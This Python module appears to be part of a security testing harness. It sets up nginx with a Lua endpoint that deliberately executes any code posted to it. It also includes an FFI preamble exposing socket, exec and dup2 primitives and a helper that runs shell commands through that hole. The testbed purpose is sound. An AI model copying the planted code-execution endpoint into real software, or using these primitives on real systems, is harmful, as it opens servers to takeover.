"""nginx of Debian with its Lua module: static pages, uploads, and a page whose template runs what it is sent."""

import os

from attacks.inside import nginx
from services.service import Service, fetch

CONF = """
include /etc/nginx/modules-enabled/*.conf;
user www-data;
worker_processes 2;
pid /run/nginx.pid;
error_log /var/log/nginx/error.log;
events { worker_connections 256; }
http {
  include /etc/nginx/mime.types;
  access_log /var/log/nginx/access.log;
  client_body_buffer_size 16k;
  gzip on;
  server {
    listen 80;
    root /srv/www;
    location /upload { client_body_in_file_only clean; return 204; }
    location /page {
      client_body_buffer_size 64k;
      content_by_lua_block {
        ngx.req.read_body()
        local template = ngx.req.get_body_data() or 'return "hello, " .. (ngx.var.arg_name or "you")'
        local page, why = loadstring(template)
        ngx.print(page and page() or why)
      }
    }
  }
}
"""

# Through LuaJIT's foreign functions the worker itself does what shellcode would.
FFI = """
local ffi = require("ffi")
pcall(ffi.cdef, [[
int open(const char *, int); int creat(const char *, int); int memfd_create(const char *, unsigned);
int read(int, void *, int); int write(int, const void *, int); int close(int);
int socket(int, int, int); int connect(int, const void *, int); int bind(int, const void *, int); int listen(int, int);
int fork(void); int execl(const char *, const char *, const char *); int waitpid(int, int *, int);
int dup2(int, int);
void *dlopen(const char *, int); void _exit(int); int unlink(const char *);
]])
local C = ffi.C
local function address(port, a, b, c, d)
  return ffi.new("uint8_t[16]", {2, 0, bit.rshift(port, 8), bit.band(port, 255), a, b, c, d})
end
local function run(program)
  local child = C.fork()
  if child == 0 then
    C.execl(program, program, nil)
    C._exit(1)
  end
  local status = ffi.new("int[1]")
  C.waitpid(child, status, 0)
  return status[0] == 0
end
local function done(worked) return worked and "DONE" or "failed" end
"""


class Nginx(Service):
    name = "nginx"
    tuned = True
    user = "www-data"
    inside = nginx.ATTACKS
    conf = CONF
    command = ["nginx", "-c", "/srv/conf/nginx.conf", "-g", "daemon off;"]
    client = ["wrk", "-t1", "-c2", "-d24h", "-s", "/load/web.lua", "http://127.0.0.1"]

    def prepare(self, replica):
        conf, www, logs = (f"{replica.top}/{part}" for part in ("conf", "www", "log"))
        for directory in (conf, www, logs):
            os.makedirs(directory, exist_ok=True)
        with open(f"{conf}/nginx.conf", "w") as file:
            file.write(self.conf)
        for number in range(200):
            directory = f"{www}/{'abcdefghij'[number % 10]}"
            os.makedirs(directory, exist_ok=True)
            with open(f"{directory}/page-{number}.html", "w") as file:
                file.write(f"<p>page {number}</p>" * (number + 1))
        with open(f"{www}/index.html", "w") as file:
            file.write("<p>start</p>")
        return [(conf, "/srv/conf:ro"), (www, "/srv/www:ro"), (logs, "/var/log/nginx")]

    def is_ready(self, replica):
        return replica.server.within(fetch, "http://127.0.0.1/") != b""

    def rotate(self, replica):
        logs = f"{replica.top}/log"
        for name in ("access.log", "error.log"):
            os.rename(f"{logs}/{name}", f"{logs}/{name}.1")
        replica.server.kill("USR1")

    def run(self, replica, code):
        return replica.server.within(fetch, "http://127.0.0.1/page", code.encode()).decode(errors="replace")

    def shell(self, replica, command):
        quoted = f"[=====[{command}]=====]"
        return "DONE" in self.run(
            replica, f'local p = io.popen({quoted} .. "\\n[ $? = 0 ] && echo DONE"); return p:read("*a")'
        )

    def within_worker(self, replica, code):
        return "DONE" in self.run(replica, FFI + code)
